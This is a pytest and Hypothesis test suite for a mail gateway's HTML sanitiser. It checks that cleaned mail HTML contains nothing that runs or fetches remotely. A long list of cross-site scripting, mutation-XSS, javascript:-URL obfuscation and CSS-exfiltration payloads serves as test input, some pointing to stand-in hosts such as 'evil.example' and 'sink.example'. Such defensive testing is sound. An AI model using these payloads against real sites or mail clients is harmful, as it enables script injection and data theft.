"""HTML that leaves us: nothing in it runs, nothing is fetched, and cleaning it again changes nothing."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailgate.mail.sanitise import is_deeper_than, sanitise
from mailgate.notify.scrub import scrub_text

CIDS = frozenset({"shot@x"})
SCHEMES = ("http://", "https://", "mailto:")
TAGS = frozenset(
    "a b strong i em u s del ins strike br p div span blockquote pre code tt ul ol li dl dt dd h1 h2 h3 h4 h5 h6 hr "
    "img table caption thead tbody tfoot tr td th sub sup small".split()
)
ATTRIBUTES = frozenset(("", *"href src dir style width height start type colspan rowspan rel".split()))


class Reader(HTMLParser):
    """All tags and attributes of a piece of HTML, read by another parser than those that made it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, "", ""))
        self.found += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def assert_harmless(html: str) -> None:
    for tag, name, value in Reader(html).found:
        assert tag in TAGS, html
        assert not name.startswith("on"), html
        assert name in ATTRIBUTES, html
        if name == "href":
            assert value.strip().lower().startswith(SCHEMES), html
        if name == "src":
            assert value == "cid:shot@x", html
        if name == "style":
            assert not re.search(r"url|expression|import|position|behavior|@|\\", value.lower()), html


VECTORS = [
    "<script>x()</script>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>x()//<</script>",
    "<script/random>x()</script >",
    "<script\x00>x()</script>",
    "<scr\u200bipt>x()</scr\u200bipt>",
    "<img src=x onerror=x()>",
    "<img/src=x/onerror=x()>",
    "<img src='x'onerror=x()>",
    "<IMG SRC=# ONERROR\n=\nx()>",
    "<img \x0conerror=x() src=cid:shot@x>",
    "<img src=http://sink.example/p.gif>",
    "<img src=//sink.example/p.gif>",
    "<img src='cid:shot@x' srcset='https://sink.example/2x 2x'>",
    "<img src=data:image/svg+xml;base64,AAAA>",
    "<img src='php://filter/convert.base64-encode/resource=/etc/passwd'>",
    "<img src=file:///etc/passwd>",
    "<img src=cid:other@x>",
    "<input type=image src=https://sink.example/x>",
    "<body background=https://sink.example/x onload=x()>",
    "<table background=https://sink.example/x><tr><td background=https://sink.example/x>x</table>",
    "<video poster=https://sink.example/x><source onerror=x()></video>",
    "<audio src=https://sink.example/x autoplay>",
    "<a href='javascript:x()'>x</a>",
    "<a href='JaVaScRiPt:x()'>x</a>",
    "<a href='java&#10;script:x()'>x</a>",
    "<a href='java&#x09;script:x()'>x</a>",
    "<a href='java\nscript:x()'>x</a>",
    "<a href='java\tscript:x()'>x</a>",
    "<a href='java\x00script:x()'>x</a>",
    "<a href='&#1;javascript:x()'>x</a>",
    "<a href=' &#14; javascript:x()'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x()'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;x()'>x</a>",
    "<a href='javascript&colon;x()'>x</a>",
    "<a href='java&Tab;script&colon;x()'>x</a>",
    "<a href='java&NewLine;script:x()'>x</a>",
    "<a href='java\u200bscript:x()'>x</a>",
    "<a href='\ufeffjavascript:x()'>x</a>",
    "<a href='\u202ejavascript:x()'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='DATA:text/html,x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='ms-msdt:/id'>x</a>",
    "<a href='https://ok.example' onclick=x() target=_top ping=https://sink.example>x</a>",
    "<a href=\"https://ok.example/'onmouseover=x()//\">x</a>",
    "<base href='javascript:x()//'><a href='y'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://sink.example/x.css>",
    "<link rel=preload as=image href=https://sink.example/x>",
    "<style>@import url(https://sink.example/x); input[value^=a]{background:url(https://sink.example/a)}</style>",
    "<div style='background:url(https://sink.example/x)'>x</div>",
    "<div style='background-image:u\\72l(https://sink.example/x)'>x</div>",
    "<div style='width:expression(x())'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='font-weight:url(https://sink.example/x)'>x</div>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:x()>x</button></form>",
    "<isindex action=javascript:x() type=image>",
    "<iframe src=https://evil.example srcdoc='<script>x()</script>'></iframe>",
    "<object data=data:text/html,x><embed src=https://evil.example></object>",
    "<svg onload=x()><script>x()</script></svg>",
    "<svg><a xlink:href='javascript:x()'><text>x</text></a></svg>",
    "<svg><animate onbegin=x() attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=x()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x()&gt;'>",
    "<math href='javascript:x()'>x</math>",
    "<math><mi//xlink:href='data:x,<script>x()</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript>",
    "<template><p title='</template><img src=x onerror=x()>'></template>",
    "<title><p title='</title><img src=x onerror=x()>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=x()>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=x()>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=x()>'></noembed>",
    "<plaintext><img src=x onerror=x()>",
    "<select><style></select><img src=x onerror=x()></style>",
    "<!--><img src=x onerror=x()>-->",
    "<!---><img src=x onerror=x()>-->",
    "<!-- --!><img src=x onerror=x()> -->",
    "<!--<!-- --><img src=x onerror=x()>-->",
    "<!-- <img title='--><img src=x onerror=x()>'> -->",
    "<![CDATA[<img src=x onerror=x()>]]>",
    "<?xml version='1.0'?><?import namespace=t implementation='#default#time2'?><img src=x onerror=x()>",
    "<!--[if gte IE 4]><script>x()</script><![endif]-->",
    "&lt;script&gt;x()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=x()&amp;gt;",
    "<p title=\"--><img src=x onerror=x()>\">x</p>",
    "<a title='\"><img src=x onerror=x()>' href=https://ok.example>x</a>",
    "<b <script>x()</script>>x</b>",
    "<div data-x='`<img src=x onerror=x()>`'>x</div>",
    "<table><td><a href='javascript:x()'><style>x</style></table>",
    "<marquee onstart=x()>x</marquee>",
    "<details open ontoggle=x()>x</details>",
    "<p id=location name=forms>clobbered</p>",
    "<custom-element is=x onfocus=x() autofocus tabindex=1>x</custom-element>",
]  # fmt: skip


@pytest.mark.parametrize("html", VECTORS)
def test_no_known_attack_leaves_anything_that_runs_or_is_fetched(html: str) -> None:
    made = sanitise(f"<p>before</p>{html}<p>after</p>", CIDS)
    assert_harmless(made)
    assert sanitise(made, CIDS) == made
    assert "sink.example" not in re.sub(r"&[lg]t;", "", made)
    assert "before" in made


def test_what_mail_is_written_with_stays() -> None:
    html = (
        '<p dir="rtl">a <b>b</b> <a href="https://x.example/?a=1&amp;b=2">c</a> <a href="mailto:a@b.example">d</a></p>'
        '<img src="cid:shot@x" width="20"><ul><li>e</li></ul><table><tr><td colspan="2">f</td></tr></table>'
        '<span style="font-weight:bold">g</span>'
    )
    made = sanitise(html, CIDS)
    for kept in ('dir="rtl"', "<b>b</b>", 'href="https://x.example/?a=1&amp;b=2"', 'href="mailto:a@b.example"',
                 'src="cid:shot@x"', "<li>e</li>", 'colspan="2"', "font-weight"):  # fmt: skip
        assert kept in made


PIECES = st.sampled_from(
    [
        *"<script> </script> <scr ipt> <img src=x onerror=x()> <img src= cid:shot@x https://sink.example/x <a".split(),
        *"href= </a> javascript: java &#10; &#x0A; &Tab; script: &colon; data:text/html, vbscript: \" ' > < /=".split(),
        *"<svg> </svg> <math> <mtext> <mglyph> <style> </style> <noscript> </noscript> <template> </template>".split(),
        *"<!-- --> --!> <![CDATA[ ]]> <title> </title> <textarea> </textarea> <table> <tr> <td> </table>".split(),
        *"<form> <p </p> <div </div> onclick=x() style= background:url(x) font-weight:url(x) x &lt; &gt;".split(),
        *"&amp; &quot; &#0; <plaintext> <xmp> </xmp> <select> <option> <annotation-xml encoding=text/html".split(),
        *"<foreignObject> <desc> <b> </b> <i> </i> title=".split(),
        *"\x00\t\n\x0c \u200b\u202e\ufeff\u2028\ud800é",
    ]
)


@given(st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=200))
def test_whatever_is_written_the_outcome_is_harmless_and_at_rest(html: str) -> None:
    made = sanitise(html, CIDS)
    assert_harmless(made)
    assert sanitise(made, CIDS) == made
    assert scrub_text(made) == made, "nothing is taken out of it afterwards"
    made.encode()


def test_what_is_too_much_to_be_read_is_nothing() -> None:
    assert sanitise("<div>" * 50_000 + "x") == ""
    assert sanitise("<div></b>" * 50_000 + "x") == ""
    assert sanitise("x" * 2_000_001) == ""
    assert sanitise("<b></b>" * 50_000) == ""
    assert "x" in sanitise("<p>x" * 5_000)


@pytest.mark.parametrize(
    ("html", "deep"), [("<b>" * 5, True), ("<b>" * 4, False), ("<b></b>" * 9, False), ("<p><br>" * 9, False)]
)
def test_depth_is_what_is_open_at_once(html: str, deep: bool) -> None:
    assert is_deeper_than(html, 4) is deep
